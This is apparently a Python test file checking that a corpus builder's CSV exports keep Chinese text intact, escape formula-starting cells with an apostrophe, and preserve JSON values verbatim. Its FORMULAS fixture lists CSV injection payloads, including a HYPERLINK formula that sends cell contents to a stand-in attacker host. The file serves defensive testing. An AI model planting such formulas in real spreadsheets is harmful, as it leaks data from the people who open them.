"""Exports that open right: the CSV opens in a spreadsheet with its Chinese intact and runs
no formula a record smuggles in; the JSON keeps every value verbatim.

The exports are made by the real export stage from a copy of the fixture corpus with hostile
text written into its records.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from builder.export import export_files
from builder.link import register_corpus
from builder.load import load_corpus
from builder.relations import relate
from builder.yamlio import read_yaml, write_yaml

BOM = b"\xef\xbb\xbf"

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]

# Values as printed that are plain numbers: a spreadsheet must see them as numbers.
NUMBERS = {"ind-1": "-0.72", "ind-2.1": "-5", "ref-1": "+3"}


def _edit(path: Path, key: str, record_id: str, **fields: object) -> None:
    document = read_yaml(path)
    record = next(r for r in document[key] if r["id"] == record_id)
    record.update(fields)
    write_yaml(path, document)


def _exports(corpus_dir: Path) -> dict[str, bytes]:
    corpus = load_corpus(corpus_dir)
    return export_files(corpus, register_corpus(corpus), relate(corpus))


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.fixture
def hostile_exports(mini_corpus: Path) -> dict[str, bytes]:
    """The fixture plan with one formula payload per project field, negative and signed
    baselines, and a formula as a provision's opening paragraph."""
    projects = mini_corpus / "demo" / "projects.yaml"
    _edit(projects, "projects", "proj-1", name_zh=FORMULAS[0], content_zh=FORMULAS[1])
    _edit(projects, "projects", "proj-2", name_zh=FORMULAS[2], content_zh=FORMULAS[3])
    indicators = mini_corpus / "demo" / "indicators.yaml"
    _edit(indicators, "indicators", "ind-1", name_zh=FORMULAS[4], unit=FORMULAS[5])
    for record_id, number in NUMBERS.items():
        _edit(indicators, "indicators", record_id, baseline_text=number)
    _edit(indicators, "indicators", "ind-1", baseline_value=-0.72)
    _edit(indicators, "indicators", "ind-2.1", baseline_value=-5)
    _edit(indicators, "indicators", "ref-1", unit="-")  # unitless, as the real plans print it
    provisions = mini_corpus / "demo" / "provisions.yaml"
    _edit(provisions, "provisions", "art-2", paragraphs=["=1+1 成立领导小组。"])
    return _exports(mini_corpus)


def test_every_csv_starts_with_a_bom_and_the_json_does_not(mini_corpus: Path):
    files = _exports(mini_corpus)
    csvs = [name for name in files if name.endswith(".csv")]
    assert csvs, "no CSV export"
    assert all(files[name].startswith(BOM) for name in csvs)
    assert not any(files[name].startswith(BOM) for name in files if name.endswith(".json"))
    header = files["api/demo/provisions.csv"].decode("utf-8-sig").splitlines()[0]
    assert header.startswith("id,plan,label,number,chapter.n")


def test_the_chinese_round_trips_through_the_csv(mini_corpus: Path):
    files = _exports(mini_corpus)
    for stem in ("demo/provisions", "demo/indicators", "demo/projects", "glossary", "plans"):
        rows = _csv_rows(files[f"api/{stem}.csv"])
        records = json.loads(files[f"api/{stem}.json"])
        assert len(rows) == len(records)
        for row, record in zip(rows, records, strict=True):
            for column in ("text_zh", "name_zh", "content_zh", "term_zh", "lead_units"):
                if column in record and record[column] is not None:
                    value = record[column]
                    expected = (
                        value if isinstance(value, str) else json.dumps(value, ensure_ascii=False)
                    )
                    assert row[column] == expected, (stem, column)
    provisions = _csv_rows(files["api/demo/provisions.csv"])
    assert "PM2.5浓度不高于35μg/m³" in provisions[0]["text_zh"]


def payload_cells(projects: list[dict], indicators: list[dict]) -> list[str]:
    """The cells the fixture's payloads were written into, in FORMULAS order."""
    return [
        projects[0]["name_zh"],
        projects[0]["content_zh"],
        projects[1]["name_zh"],
        projects[1]["content_zh"],
        indicators[0]["name_zh"],
        indicators[0]["unit"],
    ]


def test_formula_cells_get_a_leading_apostrophe(hostile_exports: dict[str, bytes]):
    projects = _csv_rows(hostile_exports["api/demo/projects.csv"])
    indicators = _csv_rows(hostile_exports["api/demo/indicators.csv"])
    provisions = _csv_rows(hostile_exports["api/demo/provisions.csv"])
    assert payload_cells(projects, indicators) == [f"'{payload}" for payload in FORMULAS]
    assert provisions[1]["text_zh"] == "'=1+1 成立领导小组。"


def test_plain_numbers_stay_numbers(hostile_exports: dict[str, bytes]):
    rows = {row["id"]: row for row in _csv_rows(hostile_exports["api/demo/indicators.csv"])}
    for record_id, number in NUMBERS.items():
        assert rows[f"demo/{record_id}"]["baseline_text"] == number
    assert rows["demo/ind-1"]["baseline_value"] == "-0.72"
    assert rows["demo/ind-2.1"]["baseline_value"] == "-5.0"
    assert rows["demo/ref-1"]["unit"] == "-"


def test_the_json_holds_the_payloads_verbatim(hostile_exports: dict[str, bytes]):
    projects = json.loads(hostile_exports["api/demo/projects.json"])
    indicators = json.loads(hostile_exports["api/demo/indicators.json"])
    provisions = json.loads(hostile_exports["api/demo/provisions.json"])
    assert payload_cells(projects, indicators) == FORMULAS
    assert provisions[1]["text_zh"] == "=1+1 成立领导小组。"
    assert [i["baseline_text"] for i in indicators] == list(NUMBERS.values())
    assert indicators[0]["baseline_value"] == -0.72
